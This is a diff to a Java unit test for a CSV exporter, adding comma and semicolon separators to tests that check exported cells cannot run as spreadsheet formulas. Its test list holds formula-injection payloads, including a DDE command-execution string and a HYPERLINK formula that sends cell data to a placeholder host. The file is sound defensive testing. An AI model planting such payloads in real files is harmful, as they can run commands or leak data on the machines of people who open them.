@@ -13,6 +13,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.regex.Pattern;
 import java.util.stream.Stream;
+import org.dossierlake.job.Export.Separator;
 import org.junit.jupiter.api.Test;
 
 class SafeCsvTest {
@@ -20,7 +21,8 @@ class SafeCsvTest {
     /** What a spreadsheet takes for the beginning of a formula, blanks, marks and quotes in front of it left out. */
     private static final Pattern RUNS = Pattern.compile("^[\\s\\p{Z}\\p{Cf}\"]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*");
 
-    private static final List<String> FORMULAS = List.of(
+    /** Texts that a spreadsheet might run. */
+    static final List<String> FORMULAS = List.of(
             "=1+1",
             "=cmd|'/c calc'!A0",
             "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
@@ -57,6 +59,9 @@ class SafeCsvTest {
             "a;=1+1",
             "a;\"=1+1",
             "a; =1+1;b",
+            "a,=1+1",
+            "a,\"=1+1",
+            "a, =1+1,b",
             "a\n=1+1",
             "a\r\n@SUM(1)",
             "\",=1+1,\"",
@@ -67,13 +72,16 @@ class SafeCsvTest {
     void noTextRunsInASpreadsheetWhateverItSeparatesCellsBy() throws IOException {
         assertThat(FORMULAS).hasSizeGreaterThanOrEqualTo(40);
         List<String> running = new ArrayList<>();
-        for (String formula : FORMULAS) {
-            String file = file("before", formula, "after");
-            assertThat(file.lines()).as("lines of %s", escaped(formula)).hasSize(1);
-            for (char separator : new char[] {',', ';', '\t'}) {
-                for (String cell : parsed(file, separator)) {
-                    if (cell != null && RUNS.matcher(cell).matches()) {
-                        running.add(escaped(formula) + " split at " + (int) separator);
+        for (Separator written : Separator.values()) {
+            for (String formula : FORMULAS) {
+                String file = file(written, "before", formula, "after");
+                assertThat(file.lines()).as("lines of %s", escaped(formula)).hasSize(1);
+                for (char separator : new char[] {',', ';', '\t'}) {
+                    for (String cell : parsed(file, separator)) {
+                        if (cell != null && RUNS.matcher(cell).matches()) {
+                            running.add(
+                                    "%s with %s, split at %d".formatted(escaped(formula), written, (int) separator));
+                        }
                     }
                 }
             }
@@ -83,31 +91,40 @@ class SafeCsvTest {
 
     @Test
     void theTextItselfIsStillThere() throws IOException {
-        for (String formula : FORMULAS) {
-            String[] cells = parsed(file("before", formula, "after"), ',');
-            assertThat(cells).hasSize(3);
-            assertThat(cells[1].replace("'", "").replaceAll("\\s", ""))
-                    .isEqualTo(formula.replaceAll("\\p{Cntrl}", "")
-                            .replace("'", "")
-                            .replaceAll("\\s", ""));
+        for (Separator separator : Separator.values()) {
+            for (String formula : FORMULAS) {
+                String[] cells = parsed(
+                        file(separator, "before", formula, "after"),
+                        separator.mark().charAt(0));
+                assertThat(cells).hasSize(3);
+                assertThat(cells[1].replace("'", "").replaceAll("\\s", ""))
+                        .isEqualTo(formula.replaceAll("\\p{Cntrl}", "")
+                                .replace("'", "")
+                                .replaceAll("\\s", ""));
+            }
         }
     }
 
     @Test
     void typedNumbersStayNumbersAndNothingStaysNothing() throws IOException {
-        String file = file(7L, -3, new BigDecimal("-50000.50000"), new BigDecimal("1E+3"), null, "-3");
-        assertThat(file).isEqualTo("\uFEFF7,-3,-50000.50000,1000,,\"'-3\"\r\n");
+        Object[] cells = {7L, -3, new BigDecimal("-50000.50000"), new BigDecimal("1E+3"), 0.25, null, "-3", "0.25"};
+        assertThat(file(Separator.comma, cells)).isEqualTo("\uFEFF7,-3,-50000.50000,1000,0.25,,\"'-3\",\"0.25\"\r\n");
+        assertThat(file(Separator.semicolon, cells))
+                .isEqualTo("\uFEFF7;-3;-50000,50000;1000;0,25;;\"'-3\";\"0.25\"\r\n");
     }
 
     @Test
     void plainTextsKeepWhatTheySay() throws IOException {
-        assertThat(file("Hòa Bình", "a \"b\", c", "x-1", "1;2", "a@b"))
+        String[] texts = {"Hòa Bình", "a \"b\", c", "x-1", "1;2", "a@b"};
+        assertThat(file(Separator.comma, (Object[]) texts))
                 .isEqualTo("\uFEFF\"Hòa Bình\",\"a \"\"b\"\", c\",\"x-1\",\"1;2\",\"a@b\"\r\n");
+        assertThat(file(Separator.semicolon, (Object[]) texts))
+                .isEqualTo("\uFEFF\"Hòa Bình\";\"a \"\"b\"\", c\";\"x-1\";\"1;2\";\"a@b\"\r\n");
     }
 
-    private static String file(Object... cells) throws IOException {
+    private static String file(Separator separator, Object... cells) throws IOException {
         StringWriter out = new StringWriter();
-        new SafeCsv(out).row(cells);
+        new SafeCsv(out, separator).row(cells);
         return out.toString();
     }
 
